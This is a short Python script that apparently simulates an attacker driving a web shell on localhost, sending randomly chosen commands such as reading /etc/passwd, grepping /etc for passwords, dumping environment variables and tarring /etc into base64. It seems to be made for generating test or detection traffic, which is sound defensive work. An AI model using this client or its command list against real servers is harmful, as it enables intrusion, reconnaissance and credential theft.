# webclient.py PORT SECONDS SEED: the person behind the web shell (not recorded)
import random, sys, time, urllib.parse, urllib.request

port, end, r = sys.argv[1], time.time() + int(sys.argv[2]), random.Random(sys.argv[3])
COMMANDS = [
    'id',
    'uname -a',
    'ls -la /var/www /home',
    'cat /etc/passwd',
    'ps aux',
    'ss -tln',
    'find / -name "*.conf" -newer /etc/hostname 2>/dev/null | head -30',
    'df -h; mount',
    'grep -ril pass /etc 2>/dev/null | head',
    'tar cf - /etc 2>/dev/null | base64 | head -c 200000',
    'crontab -l; ls /etc/cron.d',
    'env',
]
while time.time() < end:
    try:
        k = r.random()
        if k < 0.6:
            urllib.request.urlopen(
                f'http://127.0.0.1:{port}/webshell.php',
                data=urllib.parse.urlencode({'c': r.choice(COMMANDS)}).encode(),
                timeout=9,
            ).read()
        elif k < 0.8:
            urllib.request.urlopen(
                f'http://127.0.0.1:{port}/webshell.php?f=/etc/{r.choice(["passwd", "group", "services", "hosts"])}',
                timeout=9,
            ).read()
        else:
            urllib.request.urlopen(
                f'http://127.0.0.1:{port}/webshell.php?d=/{r.choice(["etc", "var", "usr/lib", "home"])}',
                timeout=9,
            ).read()
    except OSError:
        pass
    time.sleep(r.expovariate(1 / 1.5))
